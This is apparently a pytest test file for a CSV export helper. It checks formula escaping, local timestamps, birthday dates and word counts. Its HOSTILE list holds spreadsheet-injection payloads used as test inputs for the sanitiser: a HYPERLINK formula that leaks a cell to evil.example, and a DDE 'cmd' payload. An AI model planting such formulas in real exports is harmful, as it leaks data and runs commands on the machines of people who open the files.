"""Cells of the CSV export: formulas made harmless, times in the person's zone, words counted."""

from __future__ import annotations

import zoneinfo
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tending.exchange.cells import (
    FORMULA_STARTS,
    birthday_date,
    joined,
    local_stamp,
    safe_cell,
    safe_row,
    word_count,
)

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+49 170 1234567",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Sam", "", " =1", "a=b", "Zoë", "1+1", "'quoted", "x\n=1"])
def test_other_text_is_left_as_written(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers_even_when_negative():
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert safe_cell(0) == 0


def test_empty_and_yes_no():
    assert safe_cell(None) == ""
    assert safe_cell(True) == "yes"
    assert safe_cell(False) == "no"


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=x", 1, None, True]) == ["'=x", 1, "", "yes"]


def test_names_share_one_cell():
    assert joined(["Sam", "Zoë Lee"]) == "Sam; Zoë Lee"
    assert joined([]) == ""
    assert joined(iter(["one"])) == "one"


def test_local_stamp_is_in_the_persons_zone_with_its_offset():
    moment = datetime(2026, 7, 1, 18, 5, 7, 123456, tzinfo=UTC)
    assert local_stamp(moment, zoneinfo.ZoneInfo("Europe/Berlin")) == "2026-07-01T20:05:07+02:00"
    winter = datetime(2026, 1, 1, 18, 5, tzinfo=UTC)
    assert local_stamp(winter, zoneinfo.ZoneInfo("Europe/Berlin")) == "2026-01-01T19:05:00+01:00"
    assert local_stamp(winter, zoneinfo.ZoneInfo("America/New_York")).endswith("13:05:00-05:00")
    assert local_stamp(None, zoneinfo.ZoneInfo("UTC")) == ""


def test_birthday_date_only_with_its_year():
    assert birthday_date(12, 4, 1985) == "1985-04-12"
    assert birthday_date(1, 2, 987) == "0987-02-01"
    assert birthday_date(12, 4, None) == ""
    assert birthday_date(None, 4, 1985) == ""
    assert birthday_date(12, None, 1985) == ""


def test_word_count():
    assert word_count("") == 0
    assert word_count("A quiet day.") == 3
    assert word_count("I don't know, it’s **fine**") == 5
    assert word_count("# Title\n\n- one\n- two") == 3
    assert word_count("Zoë und Jürgen") == 3


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=50))
def test_no_text_leaves_as_a_formula_and_nothing_else_changes(text):
    made = safe_cell(text)
    assert not made.startswith(FORMULA_STARTS)
    assert made in (text, "'" + text)
    assert (made != text) == text.startswith(FORMULA_STARTS)
